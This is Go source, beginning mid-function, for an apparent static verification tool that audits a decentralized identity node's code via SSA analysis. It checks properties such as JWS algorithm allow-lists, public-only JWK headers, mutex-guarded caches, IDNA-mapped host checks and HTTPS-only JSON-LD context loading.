			if !ok || !Fn(gormPkg, "DB", "Where").M(c.Common()) {
				return false
			}
			s, isS := constStringArg(c.Common(), 0)
			return isS && strings.Contains(strings.ToLower(s), "not in")
		}}, 1)
}

func c05Audit4(r *Report) {
	p := r.P
	// an OpenID4VCI pre-authorized code is single use: presented at the token endpoint of another issuer of this node it is
	// refused AND burnt (all issuers share one session store)
	h := p.Func("vcr/issuer", "openidHandler", "HandleAccessTokenRequest")
	r.MustReach(MustReach{ID: "C05.vci.pre-authorized-code-burnt-on-issuer-mismatch", Fn: h,
		Cond:   CmpCheck("flow.IssuerID == issuerDID.String() is false", token.EQL, FieldV("Flow", "IssuerID"), CallV(Fn(goDid+"/did", "DID", "String"), -1), false),
		Target: p.FnOrImpl("vcr/issuer", "OpenIDStore", "DeleteReference")})
}

func c18Audit4(r *Report) {
	p := r.P
	// (a) resolve metadata is optional: the getters the did:x509 resolver calls first work on a nil receiver
	for _, name := range []string{"GetProtectedHeaderChain", "GetProtectedHeaderString"} {
		fn := p.Func("vdr/resolver", "ResolveMetadata", name)
		r.Gate(Gate{ID: "C18.x509.nil-metadata-is-no-chain", Fn: fn,
			Effect: InstrEffect("read of m.JwtProtectedHeaders", func(in ssa.Instruction) bool {
				fa, ok := in.(*ssa.FieldAddr)
				return ok && fieldName(fa.X.Type(), fa.Field) == "JwtProtectedHeaders"
			}),
			Check: CmpCheck("m == nil is false", token.EQL, ParamV("m"), NilV(), false)})
	}
	// (b) the IP-address test of did:web looks at the name the HTTP client connects to (IDNA-mapped), not at the literal
	d2u := p.Func("vdr/didweb", "", "DIDToURL")
	isIP := Fn("vdr/didweb", "", "isIPAddress")
	r.Gate(Gate{ID: "C18.web.ip-test-on-the-dialled-name", Fn: d2u, Effect: ReturnsNonNil(0), Check: CallCheck(isIP, 0, IsFalse)})
	ipf := p.Func("vdr/didweb", "", "isIPAddress")
	idna := Fn("golang.org/x/net/idna", "Profile", "ToASCII")
	rule := "ARG: isIPAddress maps the host name with the IDNA lookup profile (what net/http does before dialling) before net.ParseIP looks at it"
	key := "C18.web.ip-test-on-the-dialled-name.idna-mapped"
	switch {
	case ipf == nil:
		r.Lost(key, rule, "isIPAddress not found")
	case len(Calls(ipf, idna)) == 0:
		r.Bad(key, rule, p.Pos(ipf.Pos()), "no idna ToASCII call: fullwidth digits and ideographic full stops pass as a domain name and are dialled as an IP address")
	default:
		r.Sites++
		r.OK(key, rule, p.Pos(ipf.Pos()), "", true)
	}
	r.Gate(Gate{ID: "C18.web.ip-test-on-the-dialled-name.false-only-if-not-an-ip", Fn: ipf, Effect: ReturnsConstBoolVal(0, false),
		Check: CmpCheck("net.ParseIP(host) != nil is false", token.EQL, CallV(Fn("std:net", "", "ParseIP"), -1), NilV(), true)})
}

func c10Audit4(r *Report) {
	p := r.P
	// the cache of conflicted documents is written by Add (network goroutine) and read by Conflicted (API goroutines): every
	// access outside the constructor happens under the store's conflictedMutex
	const ds = "vdr/didnuts/didstore"
	rule := "ATOMIC: every access of store.conflictedDocuments (outside the constructor) is dominated by a Lock/RLock of store.conflictedMutex in the same function"
	key := "C10.conflict-cache.guarded-by-mutex"
	sites := p.FieldAccesses(ds, "store", "conflictedDocuments")
	n := 0
	var bad []string
	for _, s := range sites {
		if s.Fn == nil || p.FileClass(p.FuncPos(s.Fn)) != "prod" || s.Fn.Name() == "New" {
			continue
		}
		n++
		locked := false
		for _, b := range s.Fn.Blocks {
			for _, in := range b.Instrs {
				c, ok := in.(*ssa.Call)
				if !ok {
					continue
				}
				f := c.Common().StaticCallee()
				if f == nil || (f.Name() != "Lock" && f.Name() != "RLock") || len(c.Call.Args) == 0 {
					continue
				}
				fa, isFA := c.Call.Args[0].(*ssa.FieldAddr)
				if !isFA || fieldName(fa.X.Type(), fa.Field) != "conflictedMutex" {
					continue
				}
				if InstrDominates(c, s.Instr) {
					locked = true
				}
			}
		}
		if !locked {
			bad = append(bad, fmt.Sprintf("%s in %s", p.Pos(s.Pos), p.FuncName(s.Fn)))
		}
	}
	r.Sites += n
	switch {
	case n < 3:
		r.Lost(key, rule, fmt.Sprintf("%d accesses found (expected >= 3: add, remove, iterate)", n))
	case len(bad) > 0:
		r.Bad(key, rule, strings.SplitN(bad[0], " in ", 2)[0], "unguarded access: "+strings.Join(bad, "; ")+" — concurrent map iteration and map write aborts the process")
	default:
		r.OK(key, rule, "", fmt.Sprintf("%d accesses", n), true)
	}
}

func c08Audit4(r *Report) {
	p := r.P
	// the repair writes digests: it is serialised with state.Add by the store's write lock, which (on Redis) is only taken
	// when asked for
	cp := p.Func("network/dag", "xorTreeRepair", "checkPage")
	rule := "ARG: every KVStore.Write in xorTreeRepair.checkPage passes stoabs.WithWriteLock()"
	key := "C08.repair.under-the-write-lock"
	if cp == nil {
		r.Lost(key, rule, "checkPage not found")
		return
	}
	n, bad := 0, ""
	for _, ci := range Calls(cp, p.FnOrImpl("github.com/nuts-foundation/go-stoabs", "KVStore", "Write")) {
		n++
		has := false
		for _, el := range VariadicElems(ci) {
			if call, ok := StripConv(el).(*ssa.Call); ok && Fn("github.com/nuts-foundation/go-stoabs", "", "WithWriteLock").M(call.Common()) {
				has = true
			}
		}
		if !has {
			bad = p.Pos(ci.Pos())
		}
	}
	r.Sites += n
	switch {
	case n == 0:
		r.Lost(key, rule, "no Write call found")
	case bad != "":
		r.Bad(key, rule, bad, "written without the write lock: on a Redis store the repair runs concurrently with state.Add and persists a digest that misses the transaction being added")
	default:
		r.OK(key, rule, p.Pos(cp.Pos()), "", true)
	}
}

func c14Audit4(r *Report) {
	p := r.P
	// a job whose completion was recorded (deleted) while a delivery attempt was in flight is not written back: the
	// write-back happens only after a successful read of the job inside the same write transaction
	nn := p.Func("network/dag", "notifier", "notifyNow")
	key := "C14.notify.finished-job-is-not-written-back"
	if nn == nil {
		r.Lost(key, "GATE", "notifyNow not found")
		return
	}
	we := Fn("network/dag", "notifier", "writeEvent")
	found := false
	for _, f := range WithAnons(nn) {
		if f == nn || len(Calls(f, we)) == 0 {
			continue
		}
		found = true
		r.Gate(Gate{ID: key, Fn: f, Effect: CallEffect(we), Check: ErrCheck(p.FnOrImpl("github.com/nuts-foundation/go-stoabs", "Reader", "Get"))})
	}
	if !found {
		r.Lost(key, "GATE", "the write-back closure of notifyNow was not found")
	}
}

var _ = types.Typ

// jwkAssert: the ok of a comma-ok type assertion (type switch arm) to jwx's jwk.<typ>, with the polarity that passes.
func jwkAssert(typ string, pass Polarity) Check {
	desc := "key is a jwk." + typ
	if pass == IsFalse {
		desc = "key is NOT a jwk." + typ
	}
	return Check{Desc: desc, Pass: pass, NoLift: true, Values: func(fn *ssa.Function) []ssa.Value {
		var out []ssa.Value
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				if ta, isTA := in.(*ssa.TypeAssert); isTA && ta.CommaOk && strings.HasSuffix(ta.AssertedType.String(), "jwk."+typ) {
					for _, ref := range *ta.Referrers() {
						if ex, isEx := ref.(*ssa.Extract); isEx && ex.Index == 1 {
							out = append(out, ex)
						}
					}
				}
			}
		}
		return out
	}}
}

var jwkNonPublic = []string{"ECDSAPrivateKey", "RSAPrivateKey", "OKPPrivateKey"}

func c03Audit4(r *Report) {
	p := r.P
	const jwsPkg = "github.com/lestrrat-go/jwx/v2/jws"
	const jwtPkg = "github.com/lestrrat-go/jwx/v2/jwt"
	// (a) a key id keeps addressing the key pair it was published with: New inserts the reference, it never upserts it
	nw := p.Func("crypto", "Crypto", "New")
	r.Own(OwnSpec{ID: "C03.key-reference.insert-not-upsert", Op: "store a key reference with gorm Save (an upsert: re-points an existing kid to the new key)",
		Sites: sitesIn(p, nw, Fn(gormPkg, "DB", "Save")), Owners: map[string]string{}, Min: 0})
	rule := "ARG: Crypto.New stores the key reference with gorm Create (INSERT fails on an existing kid)"
	key := "C03.key-reference.insert-not-upsert.create"
	if nw == nil {
		r.Lost(key, rule, "Crypto.New not found")
	} else if n := len(sitesIn(p, nw, Fn(gormPkg, "DB", "Create"))); n == 0 {
		r.Bad(key, rule, p.Pos(nw.Pos()), "no Create call")
	} else {
		r.Sites += n
		r.OK(key, rule, p.Pos(nw.Pos()), "", true)
	}
	// (b) no private (or symmetric) key in a jwk header, for JWS and JWT alike: signing is reachable only through isPublicJWK
	//     (or without a jwk header), and isPublicJWK says "public" only after every non-public key type was ruled out —
	//     jwx's OKP private key type also satisfies the OKPPublicKey interface, so the order of the arms matters
	isPub := Fn("crypto", "", "isPublicJWK")
	noJWK := CmpCheck("headers.JWK() == nil", token.EQL, CallV(Fn(jwsPkg, "Headers", "JWK"), -1), NilV(), true)
	r.Gate(Gate{ID: "C03.jwkheader.no-private-jwk", Fn: p.Func("crypto", "", "SignJWS"), Effect: CallEffect(Fn(jwsPkg, "", "Sign")), Check: CallCheck(isPub, 0, IsTrue), Alt: []Check{noJWK}})
	r.Gate(Gate{ID: "C03.jwkheader.no-private-jwk", Fn: p.Func("crypto", "", "SignJWT"), Effect: CallEffect(Fn(jwtPkg, "", "Sign")), Check: CallCheck(isPub, 0, IsTrue), Alt: []Check{noJWK}})
	ipf := p.Func("crypto", "", "isPublicJWK")
	for _, typ := range append(append([]string{}, jwkNonPublic...), "SymmetricKey") {
		r.Gate(Gate{ID: "C03.jwkheader.public-only-after-ruling-out." + typ, Fn: ipf, Effect: ReturnsConstBoolVal(0, true), Check: jwkAssert(typ, IsFalse)})
	}
	r.Gate(Gate{ID: "C03.jwkheader.public-is-a-public-key-type", Fn: ipf, Effect: ReturnsConstBoolVal(0, true),
		Check: jwkAssert("ECDSAPublicKey", IsTrue), Alt: []Check{jwkAssert("RSAPublicKey", IsTrue), jwkAssert("OKPPublicKey", IsTrue)}})
	// (c) the same order-of-arms condition where a key is published to the network: verification methods of a did:nuts
	//     document and the jwk header of a DAG transaction
	vt := p.Func("vdr/didnuts", "verificationMethodValidator", "verifyThumbprint")
	sp := p.Func("network/dag", "", "parseSignatureParams")
	keyStore := InstrEffect("transaction.signingKey = jwk", func(in ssa.Instruction) bool {
		st, ok := in.(*ssa.Store)
		return ok && FieldV("transaction", "signingKey").M(&ssa.UnOp{Op: token.MUL, X: st.Addr})
	})
	for _, typ := range jwkNonPublic {
		r.Gate(Gate{ID: "C03.diddoc.published-key-is-not-private." + typ, Fn: vt, Effect: SuccessReturn(), Check: jwkAssert(typ, IsFalse)})
		r.Gate(Gate{ID: "C03.dag.embedded-key-is-not-private." + typ, Fn: sp, Effect: keyStore, Check: jwkAssert(typ, IsFalse)})
	}
}

func c15Audit4(r *Report) {
	p := r.P
	// a participant list entry is attacker-made cipher text (anybody can compute a valid tag): the ECIES library panics on
	// one that has no room for the IV, so it is refused before the library sees it
	ed := p.Func("crypto", "", "EciesDecrypt")
	r.Gate(Gate{ID: "C15.pal.short-ciphertext-is-refused", Fn: ed, Effect: CallEffect(Fn("github.com/nuts-foundation/crypto-ecies", "PrivateKey", "Decrypt")),
		Check: CmpCheck("len(cipherText) < ephemeral key + IV (BlockSize) + tag is false", token.LSS, LenV(ParamV("cipherText")), VPat{Desc: "a sum that includes params.BlockSize", M: func(v ssa.Value) bool {
			var sum func(v ssa.Value, d int) bool
			sum = func(v ssa.Value, d int) bool {
				if d > 6 {
					return false
				}
				v = StripConv(v)
				if u, ok := v.(*ssa.UnOp); ok && u.Op == token.MUL {
					if fa, isFA := u.X.(*ssa.FieldAddr); isFA && fieldName(fa.X.Type(), fa.Field) == "BlockSize" {
						return true
					}
				}
				if f, ok := v.(*ssa.Field); ok && fieldName(f.X.Type(), f.Field) == "BlockSize" {
					return true
				}
				if b, ok := v.(*ssa.BinOp); ok && b.Op == token.ADD {
					return sum(b.X, d+1) || sum(b.Y, d+1)
				}
				return false
			}
			return sum(v, 0)
		}}, false),
		Alt:   []Check{CmpCheck("key.Params == nil (the library refuses the key itself)", token.EQL, TypeNamedV("ECIESParams"), NilV(), true)}})
}

func c20Audit4(r *Report) {
	p := r.P
	// (a) the IP / reserved-name tests of a public URL look at the host name as net/http will use it
	ws := p.Func("core", "", "ParsePublicURLWithScheme")
	lh := Fn("core", "", "lookupHostname")
	r.ArgIs("C20.url.tests-on-the-dialled-name.of-the-url-host", ws, lh, 0, CallV(Fn("std:net/url", "URL", "Hostname"), -1), 1)
	r.ArgIs("C20.url.tests-on-the-dialled-name.reserved", ws, Fn("core", "", "isReserved"), 0, CallV(lh, 0), 1)
	r.Gate(Gate{ID: "C20.url.tests-on-the-dialled-name.unmappable-is-refused", Fn: ws, Effect: SuccessReturn(), Assume: map[string]bool{"allowReserved": false}, Check: ErrCheck(lh)})
	lf := p.Func("core", "", "lookupHostname")
	rule := "ARG: lookupHostname maps a non-ASCII host name with the IDNA lookup profile (what net/http does before dialling)"
	key := "C20.url.tests-on-the-dialled-name.idna-mapped"
	switch {
	case lf == nil:
		r.Lost(key, rule, "lookupHostname not found")
	case len(Calls(lf, Fn("golang.org/x/net/idna", "Profile", "ToASCII"))) == 0:
		r.Bad(key, rule, p.Pos(lf.Pos()), "no idna ToASCII call")
	default:
		r.Sites++
		r.OK(key, rule, p.Pos(lf.Pos()), "", true)
	}
	// (b) remote JSON-LD contexts: the HTTP client handed to the JSON-LD library has the strict transport, and the transport
	//     forwards a request only when it is HTTPS (or strict mode is off) — on every hop, redirects included
	ncl := p.Func("jsonld", "", "NewContextLoader")
	r.ArgIs("C20.jsonld.remote-context-client-is-strict", ncl, Fn("github.com/piprate/json-gold/ld", "", "NewDefaultDocumentLoader"), 0,
		VPat{Desc: "an http.Client whose Transport is jsonld.remoteContextTransport", M: func(v ssa.Value) bool {
			al, ok := v.(*ssa.Alloc)
			if !ok {
				return false
			}
			for _, ref := range *al.Referrers() {
				fa, isFA := ref.(*ssa.FieldAddr)
				if !isFA || fieldName(fa.X.Type(), fa.Field) != "Transport" {
					continue
				}
				for _, r2 := range *fa.Referrers() {
					st, isSt := r2.(*ssa.Store)
					if !isSt {
						continue
					}
					if mi, isMI := st.Val.(*ssa.MakeInterface); isMI && strings.HasSuffix(mi.X.Type().String(), "jsonld.remoteContextTransport") {
						return true
					}
				}
			}
			return false
		}}, 1)
	rt := p.Func("jsonld", "remoteContextTransport", "RoundTrip")
	r.Gate(Gate{ID: "C20.jsonld.remote-context-transport.https-only-in-strict-mode", Fn: rt,
		Effect: CallEffect(AnyOf(Fn("std:net/http", "Transport", "RoundTrip"), p.FnOrImpl("std:net/http", "RoundTripper", "RoundTrip"))),
		Check:  CmpCheck("request.URL.Scheme == \"https\"", token.EQL, FieldV("URL", "Scheme"), StrV("https"), true),
		Alt: []Check{{Desc: "strictMode is false", Pass: IsFalse, Values: func(fn *ssa.Function) []ssa.Value {
			var out []ssa.Value
			for _, b := range fn.Blocks {
				for _, in := range b.Instrs {
					switch x := in.(type) {
					case *ssa.Field:
						if fieldName(x.X.Type(), x.Field) == "strictMode" {
							out = append(out, x)
						}
					case *ssa.UnOp:
						if fa, ok := x.X.(*ssa.FieldAddr); ok && x.Op == token.MUL && fieldName(fa.X.Type(), fa.Field) == "strictMode" {
							out = append(out, x)
						}
					}
				}
			}
			return out
		}}}})
}
