package props

import (
	"go/token"
	"go/types"

	"golang.org/x/tools/go/ssa"

	. "verifcheck/an"
)

// c12Audit3: rules recorded with the third audit round's repairs.
func c12Audit3(r *Report) {
	p := r.P
	const pePkg = "vcr/pe"
	// (a) wallet and verifier apply the format designation to the same thing: "matches the format" is concluded only from a
	//     designation entry for the credential's format (or from the absence of any designation); a credential the node made itself
	//     (Format() == "") is matched as the ldp_vc it is presented as - it is not exempt
	mf := p.Func(pePkg, "", "matchFormat")
	entry := VPat{Desc: "asMap[<format>]", M: func(v ssa.Value) bool {
		l, ok := v.(*ssa.Lookup)
		if !ok || l.CommaOk {
			return false
		}
		m, isM := l.X.Type().Underlying().(*types.Map)
		if !isM {
			return false
		}
		_, inner := m.Elem().Underlying().(*types.Map)
		return inner
	}}
	formatLen := LenV(VPat{Desc: "*format", M: func(v ssa.Value) bool {
		u, ok := StripConv(v).(*ssa.UnOp)
		return ok && u.Op == token.MUL && ParamV("format").M(u.X)
	}})
	r.Gate(Gate{ID: "C12.format.match-needs-a-designation-entry", Fn: mf, Effect: ReturnsConstBoolVal(0, true),
		Check: CmpCheck("asMap[format] == nil is false", token.EQL, entry, NilV(), false),
		Alt: []Check{
			CmpCheck("format == nil", token.EQL, ParamV("format"), NilV(), true),
			CmpCheck("len(*format) == 0", token.EQL, formatLen, IntV(0), true)}})
	// (b) the discovery client registers what the discovery server accepts: Match() returns a credential per matched input
	//     descriptor, the server takes each credential once - the registration is not built from the raw match result
	fb := p.Func("discovery", "clientRegistrationManager", "findCredentialsAndBuildPresentation")
	r.ArgIs("C12.discovery.registration-presents-each-credential-once", fb, Fn("discovery", "clientRegistrationManager", "buildPresentation"), 3,
		VPat{Desc: "not the raw result of PresentationDefinition.Match (which repeats a credential for every descriptor it matches)", M: func(v ssa.Value) bool {
			return !CallV(Fn(pePkg, "PresentationDefinition", "Match"), 0).M(v)
		}}, 1)
}
