package props

import (
	"go/token"
	"strings"

	"golang.org/x/tools/go/ssa"

	. "verifcheck/an"
)

const (
	jwsPkg    = "github.com/lestrrat-go/jwx/v2/jws"
	jwtPkg    = "github.com/lestrrat-go/jwx/v2/jwt"
	jwaPkg    = "github.com/lestrrat-go/jwx/v2/jwa"
	jwkPkg    = "github.com/lestrrat-go/jwx/v2/jwk"
	jwePkg    = "github.com/lestrrat-go/jwx/v2/jwe"
	stoabsPkg = "github.com/nuts-foundation/go-stoabs"
)

func init() { Registry["C06"] = c06 }

// anonCalling returns the anonymous functions nested in fn that contain a call matching c.
func anonCalling(fn *ssa.Function, c Callee) []*ssa.Function {
	var out []*ssa.Function
	if fn == nil {
		return nil
	}
	for _, a := range WithAnons(fn)[1:] {
		if len(Calls(a, c)) > 0 {
			out = append(out, a)
		}
	}
	return out
}

func one(fs []*ssa.Function) *ssa.Function {
	if len(fs) == 1 {
		return fs[0]
	}
	return nil
}

func c06(r *Report) {
	defer c06Seed8(r)
	defer c06Seed7(r)
	p := r.P
	r.Explanation = "Static decision of the admission protocol of the DAG: (1) ParseTransaction succeeds only through jws.Parse, the single-signature test, and every registered parse step, and the step table contains every declared step; each step's success return is gated by its own header/type/allow-list checks; (2) the production State is built with both verifiers and each verifier's success return is gated by its checks; (3) state.Add reaches the write transaction only through the read-transaction verification, and inside the write closure graph.add / writePayload are gated by the presence re-check and the payload-hash comparison, under the write lock; (4) dag.add / addSingle are reachable only from that closure and storage shelves are opened for writing only by the owner functions. Each obligation is a must-pass-through argument on the SSA control-flow graph (pass edges removed => effect unreachable) or a closed-world inventory of call sites."
	r.NotDecided = []string{"cryptographic validity of signatures and hashes (jwx, sha256 are trusted leaves)", "behaviour under concurrent histories beyond the lock/ordering structure", "that a rejected write leaves no trace relies on go-stoabs aborting the write transaction when the callback returns an error (assumption)"}
	r.Assumptions = []string{"go-stoabs KVStore.Write aborts the transaction when the callback returns a non-nil error and runs AfterCommit callbacks only after a successful commit", "jwx jws.Parse/jws.Verify behave as documented"}

	const dag = "network/dag"
	parse := p.Func(dag, "", "ParseTransaction")
	// --- C06.parse
	r.Gate(Gate{ID: "C06.parse.jws", Fn: parse, Effect: SuccessReturn(), Check: ErrCheck(Fn(jwsPkg, "", "Parse"))})
	sigLen := LenV(CallV(Fn(jwsPkg, "Message", "Signatures"), -1))
	r.Gate(Gate{ID: "C06.parse.sig-nonzero", Fn: parse, Effect: SuccessReturn(), Check: CmpCheck("len(Signatures()) == 0 is false", token.EQL, sigLen, IntV(0), false)})
	r.Gate(Gate{ID: "C06.parse.sig-single", Fn: parse, Effect: SuccessReturn(), Check: CmpCheck("len(Signatures()) > 1 is false", token.LEQ, sigLen, IntV(1), true)})
	// each step err nil: dynamic call of the ranged step value
	stepCall := Callee{Desc: "step(result, headers, message)", M: func(cc *ssa.CallCommon) bool {
		if cc.IsInvoke() || cc.StaticCallee() != nil {
			return false
		}
		n := NamedOf(cc.Value.Type())
		return n != nil && n.Obj().Name() == "transactionParseStep"
	}}
	r.Gate(Gate{ID: "C06.parse.steps", Fn: parse, Effect: SuccessReturn(), Check: ErrCheck(stepCall), ForEach: true})
	// TABLE: the steps literal contains every function of type transactionParseStep's signature declared in the package
	c06StepTable(r, parse)

	// inner step gates
	r.Gate(Gate{ID: "C06.step.alg", Fn: p.Func(dag, "", "parseSigningAlgorithm"), Effect: SuccessReturn(), Check: CallCheck(Fn(dag, "", "isAlgoAllowed"), -1, IsTrue)})
	r.Gate(Gate{ID: "C06.alg.allowlist", Fn: p.Func(dag, "", "isAlgoAllowed"), Effect: ReturnsBool(0, true),
		Check: CmpCheck("algo == element of allowedAlgos", token.EQL, ParamV("algo"), AnyV(), true)})
	r.ConstTable(TableSpec{ID: "C06.algs", Pkg: dag, Var: "allowedAlgos", Allowed: []string{"ES256", "ES384", "ES512", "PS256", "PS384", "PS512"}, Forbidden: []string{"none", "HS256", "HS384", "HS512"}, Min: 1})
	r.Gate(Gate{ID: "C06.step.payload", Fn: p.Func(dag, "", "parsePayload"), Effect: SuccessReturn(), Check: ErrCheck(Fn("crypto/hash", "", "ParseHex"))})
	r.Gate(Gate{ID: "C06.step.contenttype", Fn: p.Func(dag, "", "parseContentType"), Effect: SuccessReturn(), Check: CallCheck(Fn(dag, "", "ValidatePayloadType"), -1, IsTrue)})
	// one signed transaction has one byte representation (its reference is the hash of the bytes): canonical compact form only
	r.Gate(Gate{ID: "C06.parse.canonical-compact", Fn: parse, Effect: SuccessReturn(), Check: ErrCheck(Fn(dag, "", "assertCompactSerialization"))})
	r.ArgIs("C06.parse.canonical-compact.of-the-input", parse, Fn(dag, "", "assertCompactSerialization"), 0, ParamV("input"), 1)
	acs := p.Func(dag, "", "assertCompactSerialization")
	r.Gate(Gate{ID: "C06.parse.canonical-compact.three-segments", Fn: acs, Effect: SuccessReturn(), Check: CmpCheck("len(segments) == 3", token.EQL, LenV(CallV(Fn("std:bytes", "", "Split"), -1)), IntV(3), true)})
	r.Gate(Gate{ID: "C06.parse.canonical-compact.segment-decodes", Fn: acs, Effect: SuccessReturn(), ForEach: true, Check: ErrCheck(Fn("std:encoding/base64", "Encoding", "DecodeString"))})
	r.Gate(Gate{ID: "C06.parse.canonical-compact.segment-re-encodes-to-itself", Fn: acs, Effect: SuccessReturn(), ForEach: true,
		Check: CmpCheck("EncodeToString(decoded) == segment", token.EQL, CallV(Fn("std:encoding/base64", "Encoding", "EncodeToString"), -1), AnyV(), true)})
	// ... and the protected header is exactly one JSON object: the JWS library ignores bytes around it, both when parsing and
	// when it rebuilds the signing input, so without this anyone derives new transactions (new refs) from a signed one
	notFirst := CmpCheck("i == 0 is false (not the header segment)", token.EQL, AnyV(), IntV(0), false)
	r.Gate(Gate{ID: "C06.parse.canonical-compact.header-is-one-json-object.valid", Fn: acs, Effect: SuccessReturn(), ForEach: true,
		Check: CallCheck(Fn("std:encoding/json", "", "Valid"), 0, IsTrue), Skip: []Check{notFirst}})
	r.Gate(Gate{ID: "C06.parse.canonical-compact.header-is-one-json-object.starts-with-brace", Fn: acs, Effect: SuccessReturn(), ForEach: true,
		Check: CmpCheck("decoded[0] == '{'", token.EQL, AnyV(), IntV('{'), true), Skip: []Check{notFirst}})
	r.Gate(Gate{ID: "C06.parse.canonical-compact.header-is-one-json-object.ends-with-brace", Fn: acs, Effect: SuccessReturn(), ForEach: true,
		Check: CmpCheck("decoded[len-1] == '}'", token.EQL, AnyV(), IntV('}'), true), Skip: []Check{notFirst}})
	r.ArgIs("C06.parse.canonical-compact.header-is-one-json-object.of-the-decoded-segment", acs, Fn("std:encoding/json", "", "Valid"), 0, CallV(Fn("std:encoding/base64", "Encoding", "DecodeString"), 0), 1)
	// the Lamport clock header is an unsigned 32 bit integer (a fractional, negative or oversized number converts to something else)
	plc := p.Func(dag, "", "parseLamportClock")
	lcStore := InstrEffect("transaction.lamportClock = uint32(lc)", func(in ssa.Instruction) bool {
		st, ok := in.(*ssa.Store)
		return ok && FieldV("transaction", "lamportClock").M(&ssa.UnOp{Op: token.MUL, X: st.Addr})
	})
	lcV := VPat{Desc: "the lc header as float64", M: func(v ssa.Value) bool {
		ex, ok := v.(*ssa.Extract)
		if !ok || ex.Index != 0 {
			return false
		}
		ta, isTA := ex.Tuple.(*ssa.TypeAssert)
		return isTA && ta.AssertedType.String() == "float64"
	}}
	r.Gate(Gate{ID: "C06.step.lc-not-negative", Fn: plc, Effect: lcStore, Check: CmpCheck("lc < 0 is false", token.LSS, lcV, AnyV(), false)})
	r.Gate(Gate{ID: "C06.step.lc-fits-32-bits", Fn: plc, Effect: lcStore, Check: CmpCheck("lc > MaxUint32 is false", token.LSS, AnyV(), lcV, false)})
	r.Gate(Gate{ID: "C06.step.lc-is-integral", Fn: plc, Effect: lcStore, Check: CmpCheck("lc == math.Trunc(lc)", token.EQL, lcV, CallV(Fn("std:math", "", "Trunc"), -1), true)})
	sp := p.Func(dag, "", "parseSignatureParams")
	// an embedded key is a PUBLIC key (a private key in the jwk header would be replicated to every node)
	keyStore := InstrEffect("transaction.signingKey = jwk", func(in ssa.Instruction) bool {
		st, ok := in.(*ssa.Store)
		return ok && FieldV("transaction", "signingKey").M(&ssa.UnOp{Op: token.MUL, X: st.Addr})
	})
	pubOK := func(typ string) Check {
		return Check{Desc: "jwk.(" + typ + ") ok", Pass: IsTrue, Values: func(fn *ssa.Function) []ssa.Value {
			var out []ssa.Value
			for _, b := range fn.Blocks {
				for _, in := range b.Instrs {
					if ta, isTA := in.(*ssa.TypeAssert); isTA && ta.CommaOk && strings.HasSuffix(ta.AssertedType.String(), "jwk."+typ) {
						for _, ref := range *ta.Referrers() {
							if ex, isEx := ref.(*ssa.Extract); isEx && ex.Index == 1 {
								out = append(out, ex)
							}
						}
					}
				}
			}
			return out
		}}
	}
	r.Gate(Gate{ID: "C06.step.embedded-key-is-public", Fn: sp, Effect: keyStore, Check: pubOK("ECDSAPublicKey"), Alt: []Check{pubOK("RSAPublicKey"), pubOK("OKPPublicKey")}})
	// kid xor jwk: a branch on which kid != "" refuses, and a branch on which kid == "" refuses (both / neither)
	r.Refuse(Refuse{ID: "C06.step.kid-xor-jwk.both", Fn: sp, Exists: true, Cond: CmpCheck("signingKeyID != \"\" (jwk present)", token.EQL, FieldV("transaction", "signingKeyID"), StrV(""), false)})
	r.Refuse(Refuse{ID: "C06.step.kid-xor-jwk.neither", Fn: sp, Exists: true, Cond: CmpCheck("signingKeyID == \"\" (jwk absent)", token.EQL, FieldV("transaction", "signingKeyID"), StrV(""), true)})
	r.Gate(Gate{ID: "C06.step.kid-xor-jwk.key", Fn: sp, Effect: SuccessReturn(), Check: CmpCheck("signingKey nil-test", token.EQL, FieldV("transaction", "signingKey"), NilV(), true),
		Alt: []Check{CmpCheck("signingKey nil-test (other edge)", token.EQL, FieldV("transaction", "signingKey"), NilV(), false)}})
	for _, st := range []struct{ fn, typ string }{{"parseSigningTime", "float64"}, {"parseVersion", "float64"}, {"parsePrevious", "[]interface{}"}, {"parseLamportClock", "float64"}} {
		fn := p.Func(dag, "", st.fn)
		r.Gate(Gate{ID: "C06.step.header-present", Fn: fn, Effect: SuccessReturn(), Check: OkCheck(Fn(jwsPkg, "Headers", "Get"))})
		r.Gate(Gate{ID: "C06.step.header-typed", Fn: fn, Effect: SuccessReturn(), Check: AssertOK(st.typ)})
	}
	r.Gate(Gate{ID: "C06.step.version-allowed", Fn: p.Func(dag, "", "parseVersion"), Effect: SuccessReturn(), Check: CallCheck(Fn(dag, "", "versionAllowed"), -1, IsTrue)})
	pp := p.Func(dag, "", "parsePrevious")
	r.Gate(Gate{ID: "C06.step.prev-string", Fn: pp, Effect: SuccessReturn(), Check: AssertOK("string"), ForEach: true})
	r.Gate(Gate{ID: "C06.step.prev-hash", Fn: pp, Effect: SuccessReturn(), Check: ErrCheck(Fn("crypto/hash", "", "ParseHex")), ForEach: true})

	// --- C06.verifiers
	sigV := one(anonCalling(p.Func(dag, "", "NewTransactionSignatureVerifier"), Fn(jwsPkg, "", "Verify")))
	r.Gate(Gate{ID: "C06.verify.signature", Fn: sigV, Effect: SuccessReturn(), Check: ErrCheck(Fn(jwsPkg, "", "Verify"))})
	r.Gate(Gate{ID: "C06.verify.key-embedded-or-resolved", Fn: sigV, Effect: CallEffect(Fn(jwsPkg, "", "Verify")),
		Check: ErrCheck(Fn(jwkPkg, "Key", "Raw")), Alt: []Check{ErrCheck(Fn("vdr/resolver", "NutsKeyResolver", "ResolvePublicKey"))}})
	prevV := one(anonCalling(p.Func(dag, "", "NewPrevTransactionsVerifier"), Fn(dag, "", "getTransaction")))
	r.Gate(Gate{ID: "C06.verify.prevs-present", Fn: prevV, Effect: SuccessReturn(), Check: ErrCheck(Fn(dag, "", "getTransaction")), ForEach: true})
	r.Gate(Gate{ID: "C06.verify.clock", Fn: prevV, Effect: SuccessReturn(),
		Check: CmpCheck("int(Clock()) == highest+1", token.EQL, CallV(Fn(dag, "Transaction", "Clock"), -1), AddConstV(AnyV(), 1), true)})
	// verifiers wired at the single production NewState call
	c06VerifiersWired(r)
	r.Gate(Gate{ID: "C06.verifyTX.each", Fn: p.Func(dag, "state", "verifyTX"), Effect: SuccessReturn(), ForEach: true,
		Check: ErrCheck(Callee{Desc: "verifier(tx, transaction)", M: func(cc *ssa.CallCommon) bool {
			n := NamedOf(cc.Value.Type())
			return !cc.IsInvoke() && cc.StaticCallee() == nil && n != nil && n.Obj().Name() == "Verifier"
		}})})

	// key lookup is always "as of the referenced transactions": never the latest document
	c06KeyAsOfPrevs(r)
	kr := p.Func(dag, "SourceTXKeyResolver", "ResolvePublicKey")
